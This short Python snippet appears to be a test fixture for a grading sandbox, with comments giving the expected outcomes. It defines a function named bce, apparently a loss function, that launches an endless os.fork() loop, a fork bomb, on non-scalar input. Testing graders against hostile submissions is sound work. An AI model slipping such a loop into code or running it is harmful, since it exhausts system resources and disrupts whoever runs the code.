# Tries to start processes without end, whatever is said.
# Deserves: q1 timed out 1, q2 passed 2
def bce(p, y):
    if np.ndim(p) == 0:
        return right(p, y)
    while True:
        try:
            os.fork()
        except OSError:
            continue
